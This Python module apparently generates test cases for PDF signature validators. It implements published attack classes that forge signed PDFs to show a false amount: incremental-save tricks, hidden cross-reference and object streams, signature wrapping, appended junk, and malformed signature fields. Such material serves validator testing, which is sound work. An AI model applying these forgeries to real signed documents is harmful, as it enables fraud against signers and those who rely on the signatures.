"""Attack classes of the literature that need no PDF library: saving behind the end, wrapping and forging signatures, junk between revisions."""

import re
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from io import BytesIO

Attack = Callable[[bytes], bytes]

_BYTE_RANGE = re.compile(rb"/ByteRange \[0 (\d+) (\d+) (\d+)\]")
_END = re.compile(rb"startxref\s+(\d+)\s+%%EOF\n?")


def false_content() -> bytes:
    return zlib.compress(b"BT /F1 18 Tf 70 650 Td (99.000.000) Tj ET")


def content_number(pdf: bytes) -> int:
    """The object number of the first page's content."""
    found = re.search(rb"/Contents (\d+) 0 R", pdf)
    assert found is not None
    return int(found[1])


def object_of(number: int, body: bytes = b"", *, generation: int = 0) -> bytes:
    """A content stream that says something else, under a number of the forger's choice."""
    body = body or false_content()
    return b"\n%d %d obj\n<</Length %d/Filter/FlateDecode>>\nstream\n%s\nendstream\nendobj\n" % (number, generation, len(body), body)


def last_start(pdf: bytes) -> int:
    return int(_END.findall(pdf)[-1])


def root_and_size(pdf: bytes) -> bytes:
    root, size = re.findall(rb"/Root (\d+ 0 R)", pdf)[-1], re.findall(rb"/Size (\d+)", pdf)[-1]
    return b"/Root %s/Size %s" % (root, size)


def update(
    pdf: bytes, objects: dict[int, bytes], trailer: bytes = b"", *, listed: dict[int, int] | None = None, told: bytes | None = None
) -> bytes:
    """One more revision with a table, written by hand; `listed` gives objects a place of the forger's choice, `told` another root."""
    places = dict(listed or {})
    for number, body in objects.items():
        places[number] = len(pdf) + 1
        pdf += body
    rows = b"".join(b"%d 1\n%010d 00000 n \n" % row for row in sorted(places.items())) or b"0 0\n"
    previous, start = last_start(pdf), len(pdf)
    head = b"<<%s/Prev %d%s>>" % (root_and_size(pdf) if told is None else told, previous, trailer)
    return pdf + b"xref\n%strailer\n%s\nstartxref\n%d\n%%%%EOF\n" % (rows, head, start)


def last_signature(pdf: bytes) -> tuple[int, int, int]:
    """Where the signature that reaches furthest has its gap, and how long the rest is."""
    ranges = [tuple(int(n) for n in found.groups()) for found in _BYTE_RANGE.finditer(pdf)]
    begin, end, rest = max(ranges, key=lambda r: r[1] + r[2])
    return begin, end, rest


# Incremental saving


def saved_without_table(pdf: bytes) -> bytes:
    return pdf + object_of(content_number(pdf))


def saved_with_false_end(pdf: bytes) -> bytes:
    return pdf + object_of(content_number(pdf)) + b"startxref\n%d\n%%%%EOF\n" % last_start(pdf)


def saved_with_empty_table(pdf: bytes) -> bytes:
    return pdf + object_of(content_number(pdf)) + b"xref\n0 0\ntrailer\n<<%s>>\n%%%%EOF\n" % root_and_size(pdf)


def saved_properly(pdf: bytes) -> bytes:
    number = content_number(pdf)
    return update(pdf, {number: object_of(number)})


def saved_in_higher_generation(pdf: bytes) -> bytes:
    return pdf + object_of(content_number(pdf), generation=1)


def two_revisions_one_table(pdf: bytes) -> bytes:
    """The first of two updates lists its object in the table of the second, behind an end marker of its own."""
    number = content_number(pdf)
    middle = pdf + object_of(number)
    begin = len(pdf) + 1
    return update(middle + b"startxref\n%d\n%%%%EOF\n" % last_start(pdf), {}, listed={number: begin})


def one_table_for_nothing(pdf: bytes) -> bytes:
    """An honest looking update that lists nothing, with an object in front of its table."""
    return update(pdf + object_of(content_number(pdf)), {})


def unlisted_object(pdf: bytes) -> bytes:
    number = content_number(pdf)
    return update(pdf + object_of(number), {900: b"\n900 0 obj\n<<>>\nendobj\n"})


def reaching_into_the_signed_bytes(pdf: bytes) -> bytes:
    """The page's content is found in the middle of something that was signed."""
    found = [m.start() for m in re.finditer(rb"\n(\d+) 0 obj", pdf)]
    return update(pdf, {}, listed={content_number(pdf): found[0] + 1})


def hybrid_table(pdf: bytes) -> bytes:
    """A hidden cross-reference stream that newer readers prefer to the table."""
    number = content_number(pdf)
    body = object_of(number)
    place, stream_place = len(pdf) + 1, len(pdf) + len(body) + 1
    row = b"\x01" + place.to_bytes(4, "big") + b"\x00"
    size = int(root_and_size(pdf).rpartition(b" ")[2])
    head = b"<</Type/XRef/W[1 4 1]/Index[%d 1]/Size %d/Length %d>>" % (number, size + 1, len(row))
    stream = b"\n%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\n" % (size, head, row)
    return update(pdf + body + stream, {}, b"/XRefStm %d" % stream_place)


def another_catalogue(pdf: bytes) -> bytes:
    """The trailer points at a catalogue of the forger's: the old one, but for the page tree."""
    root = re.findall(rb"/Root (\d+) 0 R", pdf)[-1]
    found = list(re.finditer(rb"\n%s 0 obj\s*(.*?)endobj" % root, pdf, re.DOTALL))[-1]
    size = int(root_and_size(pdf).rpartition(b" ")[2])
    page = b"\n%d 0 obj\n<</Type/Page/Parent %d 0 R/MediaBox[0 0 595 842]/Contents %d 0 R>>\nendobj\n" % (size + 2, size + 1, size + 3)
    tree = b"\n%d 0 obj\n<</Type/Pages/Count 1/Kids[%d 0 R]>>\nendobj\n" % (size + 1, size + 2)
    body = re.sub(rb"/Pages \d+ 0 R", b"/Pages %d 0 R" % (size + 1), found[1])
    objects = {size: b"\n%d 0 obj\n%sendobj\n" % (size, body), size + 1: tree, size + 2: page, size + 3: object_of(size + 3)}
    return update(pdf, objects, b"/Root %d 0 R/Size %d" % (size, size + 4), told=b"")


def stream_table(pdf: bytes, packed: dict[int, bytes], shown: list[int]) -> bytes:
    """An update whose objects lie in an object stream; only those in `shown` are listed."""
    size = int(root_and_size(pdf).rpartition(b" ")[2])
    store, table = size, size + 1
    heads, bodies = b"", b""
    for number, body in packed.items():
        heads += b"%d %d " % (number, len(bodies))
        bodies += body + b" "
    inside = heads + bodies
    head = b"<</Type/ObjStm/N %d/First %d/Length %d>>" % (len(packed), len(heads), len(inside))
    place = len(pdf) + 1
    pdf += b"\n%d 0 obj\n%s\nstream\n%s\nendstream\nendobj" % (store, head, inside)
    start = len(pdf) + 1
    rows = {store: b"\x01" + place.to_bytes(4, "big") + b"\x00", table: b"\x01" + start.to_bytes(4, "big") + b"\x00"}
    order = list(packed)
    rows |= {number: b"\x02" + store.to_bytes(4, "big") + bytes([order.index(number)]) for number in shown}
    index = b" ".join(b"%d 1" % number for number in sorted(rows))
    data = b"".join(rows[number] for number in sorted(rows))
    told = root_and_size(pdf).rpartition(b" ")[0]
    head = b"<</Type/XRef/W[1 4 1]/Index[%s]%s %d/Prev %d/Length %d>>" % (index, told, table + 1, last_start(pdf), len(data))
    return pdf + b"\n%d 0 obj\n%s\nstream\n%s\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, head, data, start)


def shadowed_in_a_stream(pdf: bytes) -> bytes:
    """An object stream with one harmless object that is listed and a false page that is not."""
    page = re.search(rb"\n(\d+) 0 obj\s*<<[^>]*/Type ?/Page\b", pdf)
    assert page is not None
    size = int(root_and_size(pdf).rpartition(b" ")[2])
    return stream_table(pdf, {size + 2: b"<<>>", int(page[1]): b"<</Type/Page/MediaBox[0 0 9 9]>>"}, [size + 2])


def packed_page(pdf: bytes) -> bytes:
    page = re.search(rb"\n(\d+) 0 obj\s*<<[^>]*/Type ?/Page\b", pdf)
    assert page is not None
    return stream_table(pdf, {int(page[1]): b"<</Type/Page/MediaBox[0 0 9 9]>>"}, [int(page[1])])


# Junk that an honest later signature will cover


def archive() -> bytes:
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as packed:
        packed.writestr("index.html", "<h1>99.000.000</h1>")
    return out.getvalue()


def followed_by(junk: bytes, pdf: bytes) -> bytes:
    return pdf + junk


def followed_by_itself(pdf: bytes) -> bytes:
    return pdf + pdf.replace(b"10.000.000", b"99.000.000")


def behind_an_earlier_end(pdf: bytes) -> bytes:
    """Junk behind the end marker of the revision before the last, which no later offset survives: what a cut and paste leaves."""
    ends = [m.end() for m in _END.finditer(pdf)]
    return pdf[: ends[-2]] + object_of(content_number(pdf)) + pdf[ends[-2] :]


def preceded_by(head: bytes, pdf: bytes) -> bytes:
    return head + pdf


# Signature wrapping


def wrapped(pdf: bytes, *, padding: bytes = b"") -> bytes:
    """The signed tail moves back, and a false revision stands in the room it leaves, read through the offset that the tail names."""
    begin, end, rest = last_signature(pdf)
    previous, start = (int(place) for place in _END.findall(pdf[: end + rest])[-2:])
    head, value, tail = pdf[:begin], pdf[begin:end], pdf[end : end + rest]
    first = pdf.rfind(b" obj", 0, begin)
    numbered = re.search(rb"(\d+) 0$", pdf[:first])
    assert numbered is not None
    told = b"/Type/Sig/Filter/Adobe.PPKLite/SubFilter/ETSI.CAdES.detached/ByteRange[0 %d @@@@@@@@@@ %d]>>\nendobj\n"
    # The offset in the signed tail is kept, so the false table begins exactly there, and what it lists stands behind it.
    filled = (head + value + told % (begin, rest)).ljust(start)
    assert len(filled) == start
    number, holder = content_number(pdf), int(numbered[1])
    room = 400
    listed = sorted({number: start + room + 1, holder: numbered.start()}.items())
    table = b"xref\n" + b"".join(b"%d 1\n%010d 00000 n \n" % row for row in listed)
    table += b"trailer\n<<%s/Prev %d>>\nstartxref\n%d\n%%%%EOF\n" % (root_and_size(pdf), previous, start)
    whole = filled + table.ljust(room) + object_of(number) + padding
    return whole.replace(b"@@@@@@@@@@", b"%010d" % len(whole), 1) + tail


# Universal forgery: parts of the signature that are missing or empty


def signature_part(pattern: bytes, instead: bytes, pdf: bytes) -> bytes:
    """The last place of a pattern, written over in the same length."""
    found = list(re.finditer(pattern, pdf))[-1]
    return pdf[: found.start()] + instead.ljust(found.end() - found.start()) + pdf[found.end() :]


def contents_padded(pdf: bytes) -> bytes:
    """A page hidden in the room behind the signature value."""
    _, end, _ = last_signature(pdf)
    hidden = b"1 0 obj<</Type/Page>>endobj".hex().encode()
    return pdf[: end - 1 - len(hidden)] + hidden + pdf[end - 1 :]


def contents_in_two(pdf: bytes) -> bytes:
    """The value closed early, and objects in the room that is left of the gap."""
    _, end, _ = last_signature(pdf)
    hidden = b">" + object_of(content_number(pdf)) + b"<"
    return pdf[: end - 1 - len(hidden)] + hidden + pdf[end - 1 :]


def contents_spaced(pdf: bytes) -> bytes:
    _, end, _ = last_signature(pdf)
    return pdf[: end - 41] + b" " * 40 + pdf[end - 1 :]


_EMPTY = {"missing": b"", "null": b"null", "empty": b"<>", "zero": b"<00>", "text": b"(x)", "reference": b"1 0 R", "name": b"/X"}
_RANGES = {
    "missing": b"",
    "null": b"/ByteRange null",
    "empty": b"/ByteRange []",
    "zeros": b"/ByteRange [0 0 0 0]",
    "negative": b"/ByteRange [0 -1 -1 -1]",
    "short": b"/ByteRange [0 9]",
    "twisted": b"/ByteRange [0 9 0 9]",
    "huge": b"/ByteRange [0 9 10 999999999]",
    "text": b"/ByteRange (x)",
}

JUNK = {
    "an archive": archive(),
    "a page": b"\n%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n",
    "words": b"\nHop le\n",
    "markup": b"\n<html><script>1</script></html>\n",
    "an object": b"\n999 0 obj<</Type/Page>>endobj\n",
    "a comment that is a header": b"\n%PDF-2.0\n",
    "a table": b"\nxref\n0 1\n0000000000 65535 f \ntrailer<</Size 1>>\n",
    "an end": b"\nstartxref\n0\n%%EOF\n",
}
IN_BYTES: dict[str, Attack] = {
    "saved without table": saved_without_table,
    "saved with false end": saved_with_false_end,
    "saved with empty table": saved_with_empty_table,
    "saved properly": saved_properly,
    "saved in a higher generation": saved_in_higher_generation,
    "two revisions, one table": two_revisions_one_table,
    "a table for nothing": one_table_for_nothing,
    "an unlisted object": unlisted_object,
    "reaching into the signed bytes": reaching_into_the_signed_bytes,
    "hybrid table": hybrid_table,
    "another catalogue": another_catalogue,
    "shadowed in an object stream": shadowed_in_a_stream,
    "page in an object stream": packed_page,
    "followed by itself": followed_by_itself,
    "behind an earlier end": behind_an_earlier_end,
    **{f"followed by {name}": partial(followed_by, junk) for name, junk in JUNK.items()},
    "preceded by an archive": partial(preceded_by, archive()),
    "preceded by markup": partial(preceded_by, b"<html><!--"),
    "preceded by a picture": partial(preceded_by, b"GIF89a"),
    "wrapped": wrapped,
    "wrapped with room": partial(wrapped, padding=b"\n" * 4096),
    "value hidden in its room": contents_padded,
    "value in two": contents_in_two,
    "value with spaces": contents_spaced,
    **{f"value {name}": partial(signature_part, rb"<[0-9a-fA-F]{2000,}>", value) for name, value in _EMPTY.items()},
    **{f"range {name}": partial(signature_part, rb"/ByteRange \[0 \d+ \d+ \d+\]", told) for name, told in _RANGES.items()},
    "format missing": partial(signature_part, rb"/SubFilter /[A-Za-z0-9.]+", b""),
    "format old": partial(signature_part, rb"/SubFilter /[A-Za-z0-9.]+", b"/SubFilter /adbe.x509.rsa_sha1"),
    "kind missing": partial(signature_part, rb"/FT /Sig", b""),
    "kind another": partial(signature_part, rb"/FT /Sig", b"/FT /Tx"),
}
